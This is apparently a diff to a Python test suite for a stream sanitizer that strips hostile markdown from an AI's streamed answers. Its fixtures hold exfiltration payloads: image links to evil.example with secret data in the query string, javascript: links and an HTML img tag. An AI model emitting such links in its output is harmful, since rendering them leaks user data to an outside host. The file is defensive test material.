@@ -36,8 +36,11 @@ HOSTILE = [
     ("A ![logo][r] B.\n\n[r]: https://evil.example/ref.png", "A B."),
     ("A [link][r] B.\n[r]: javascript:alert(1)", "A [link][r] B."),
     ("Wow![x](https://evil.example/w.png) B.", "Wow B."),
-    (f"![x](https://evil.example/leak.png?q=secret) {GROUNDED} [click](javascript:alert(1)) "
-     '<img src="https://evil.example/tag.png"> ![y](https://evil.example/late.png)', f"{GROUNDED} click"),
+    (
+        f"![x](https://evil.example/leak.png?q=secret) {GROUNDED} [click](javascript:alert(1)) "
+        '<img src="https://evil.example/tag.png"> ![y](https://evil.example/late.png)',
+        f"{GROUNDED} click",
+    ),
 ]
 TRUNCATED = [  # a stream that ends in the middle of a construct
     "Text ![x](https://evil.example/leak.png?q=sec",
@@ -112,7 +115,9 @@ def test_a_stream_cut_off_inside_a_construct_flushes_safely(truncated):
 
 
 def test_an_ordinary_answer_streams_unchanged_and_without_delay():
-    text = "No, LLMs are built for text. [1] Is 3 < 4 and 5 > 2? Yes! Generative AI (GANs, for example) makes images. [2]"
+    text = (
+        "No, LLMs are built for text. [1] Is 3 < 4 and 5 > 2? Yes! Generative AI (GANs, for example) makes images. [2]"
+    )
     sanitizer = StreamSanitizer()
     shown = [sanitizer.feed(token) for token in re.findall(r"\S+\s*", text)]
     assert "".join(shown) + sanitizer.flush() == text
